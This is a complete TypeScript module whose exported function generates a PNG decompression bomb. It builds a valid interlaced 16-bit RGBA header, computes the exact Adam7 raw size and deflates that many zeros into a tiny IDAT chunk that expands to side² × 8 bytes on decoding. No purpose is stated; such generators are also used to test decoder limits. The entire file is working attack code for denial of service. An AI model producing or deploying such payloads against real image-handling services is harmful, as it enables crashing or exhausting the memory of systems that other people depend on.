import { crc32, createDeflate } from 'node:zlib';

/** The seven passes of Adam7 interlacing: first column, first row, distance of columns, distance of rows. */
const passes = [
  [0, 0, 8, 8],
  [4, 0, 8, 8],
  [0, 4, 4, 8],
  [2, 0, 4, 4],
  [0, 2, 2, 4],
  [1, 0, 2, 2],
  [0, 1, 1, 2],
] as const;
const BYTES_PER_PIXEL = 8;

/** An empty square PNG of 16 bits a channel, interlaced: small on the wire, `side`² × 8 bytes once unpacked. */
export async function pictureBomb(side: number): Promise<Buffer> {
  const head = Buffer.alloc(13);
  head.writeUInt32BE(side, 0);
  head.writeUInt32BE(side, 4);
  // 16 bits, colour with transparency, the usual compression and filter, interlaced.
  head.set([16, 6, 0, 0, 1], 8);
  const signature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
  const data = await deflateZeros(rawLength(side));
  return Buffer.concat([signature, chunk('IHDR', head), chunk('IDAT', data), chunk('IEND', Buffer.alloc(0))]);
}

function rawLength(side: number): number {
  const cells = (first: number, apart: number): number => Math.max(0, Math.ceil((side - first) / apart));
  return passes
    .map(([x, y, across, down]) => cells(y, down) * (1 + cells(x, across) * BYTES_PER_PIXEL))
    .reduce((sum, length) => sum + length, 0);
}

function chunk(type: string, data: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const framed = Buffer.alloc(body.length + 8);
  framed.writeUInt32BE(data.length, 0);
  body.copy(framed, 4);
  framed.writeUInt32BE(crc32(body), body.length + 4);
  return framed;
}

async function deflateZeros(length: number): Promise<Buffer> {
  const deflate = createDeflate({ level: 9 });
  const chunks: Buffer[] = [];
  deflate.on('data', (part: Buffer) => chunks.push(part));
  const ended = new Promise<void>((resolve) => deflate.on('end', () => resolve()));
  const zeros = Buffer.alloc(1 << 20);
  for (let remaining = length; remaining > 0; remaining -= zeros.length) {
    const part = remaining < zeros.length ? zeros.subarray(0, remaining) : zeros;
    if (!deflate.write(part)) await new Promise<void>((resolve) => deflate.once('drain', () => resolve()));
  }
  deflate.end();
  await ended;
  return Buffer.concat(chunks);
}
